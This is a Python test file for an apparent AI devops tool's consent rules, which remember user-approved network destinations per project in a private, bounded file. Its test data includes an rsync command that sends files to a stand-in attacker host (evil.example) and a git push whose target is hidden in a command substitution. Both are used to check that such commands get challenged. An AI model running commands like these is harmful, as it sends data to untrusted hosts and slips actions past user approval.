"""Machines that were allowed before: per project, after a restart too, private, bounded, and only as far as named."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from aidevops_voice.consent.rules import Rules
from aidevops_voice.peers import MOST, Peers
from aidevops_voice.risk import assess

ONE, OTHER = Path("/home/ana/shop"), Path("/home/ana/till")


def mode(rules: Rules, command: str) -> str:
    """Who decides a command of the network."""
    found = assess(command, str(ONE))
    assert found.risk == "network"
    return rules.mode(found.risk, found.actions)


def allow(rules: Rules, command: str) -> None:
    """The user allowed it."""
    found = assess(command, str(ONE))
    rules.allowed(found.risk, found.actions)


def test_what_was_allowed_is_known_after_a_restart_in_its_project_alone(tmp_path: Path) -> None:
    file = tmp_path / "peers.json"
    before = Rules(known=Peers(file, ONE))
    assert mode(before, "curl https://api.example.com/v1") == "challenge"
    allow(before, "curl https://api.example.com/v1")
    assert mode(before, "curl https://api.example.com/v2") == "ask"
    assert mode(Rules(known=Peers(file, ONE)), "curl https://api.example.com/v2") == "ask"
    assert mode(Rules(known=Peers(file, ONE)), "curl https://other.example.com/v2") == "challenge"
    assert mode(Rules(known=Peers(file, OTHER)), "curl https://api.example.com/v2") == "challenge"


def test_the_file_is_private_bounded_and_names_nothing(tmp_path: Path) -> None:
    file = tmp_path / "peers.json"
    peers = Peers(file, ONE)
    allow(Rules(known=peers), "curl https://api.example.com/v1")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert "example" not in file.read_text()
    peers.add(f"{number:032x}" for number in range(MOST + 10))
    assert len(json.loads(file.read_text())["projects"][str(ONE)]) == MOST
    assert f"{MOST + 9:032x}" in Peers(file, ONE)


@pytest.mark.parametrize(
    "text", ["", "[]", '{"projects": {"/home/ana/shop": 5}}', '{"projects": {"/home/ana/shop": [7, "x"]}}']
)
def test_a_file_that_cannot_be_used_counts_as_none(tmp_path: Path, text: str) -> None:
    file = tmp_path / "peers.json"
    file.write_text(text)
    rules = Rules(known=Peers(file, ONE))
    assert mode(rules, "curl https://api.example.com/v1") == "challenge"
    allow(rules, "curl https://api.example.com/v1")
    assert mode(Rules(known=Peers(file, ONE)), "curl https://api.example.com/v1") == "ask"


def test_what_is_not_named_is_never_known() -> None:
    rules = Rules()
    found = assess('git push "$(cat target)"', str(ONE))
    rules.allowed("network", found.actions)
    assert rules.mode("network", found.actions) == "challenge"


def test_where_something_goes_to_counts_however_much_is_sent() -> None:
    rules = Rules()
    known = assess("rsync a b c d ana@box.example:/srv", str(ONE))
    rules.allowed("network", known.actions)
    assert rules.mode("network", known.actions) == "ask"
    assert rules.mode("network", assess("rsync a b c d ana@evil.example:/srv", str(ONE)).actions) == "challenge"


def test_what_the_settings_allowed_by_themselves_is_not_remembered() -> None:
    rules = Rules({"network": "allow"})
    found = assess("curl https://api.example.com/v1", str(ONE))
    rules.allowed(found.risk, found.actions)
    rules.modes = {"network": "challenge_first"}
    assert rules.mode(found.risk, found.actions) == "challenge"
